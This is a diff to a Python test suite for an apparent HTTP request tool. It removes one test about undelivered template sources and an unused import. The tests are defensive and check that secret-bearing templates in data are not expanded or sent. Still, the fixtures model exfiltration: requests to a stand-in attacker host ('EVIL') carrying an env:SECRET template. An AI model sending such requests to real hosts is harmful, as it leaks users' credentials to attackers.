@@ -23,7 +23,7 @@ from tests.support.hostile import (
     preset,
 )
 from tests.support.worlds import FILE, FakePerson, World
-from workbench.domain.errors import ExitCode, NotYet, RenderError, TrustRequired, UsageError
+from workbench.domain.errors import ExitCode, RenderError, TrustRequired, UsageError
 from workbench.domain.http import Request, Response
 from workbench.domain.origin import origin_of
 from workbench.domain.secret import Rendered, Secret
@@ -142,14 +142,6 @@ async def test_a_template_inside_data_is_neither_asked_about_nor_called(kind: st
     assert exchange.error is None
     assert made.sources.read == []
     assert made.sent_to == [f"{EVIL}?q=%7B%7Benv%3ASECRET%7D%7D"]
-
-
-@pytest.mark.parametrize("name", ["prompt", "keyring", "command"])
-async def test_a_source_that_is_not_delivered_is_neither_asked_about_nor_called(name: str) -> None:
-    text = f'{COLLECTION}[[request]]\nname = "R"\nurl = "{EVIL}/{{{{{name}:x}}}}"\n'
-    made = World(text, says=True)
-    assert isinstance((await made.send()).error, NotYet)
-    assert (made.sent_to, made.person.asked) == ([], [])
 
 
 def test_the_password_of_a_proxy_is_in_no_question() -> None:
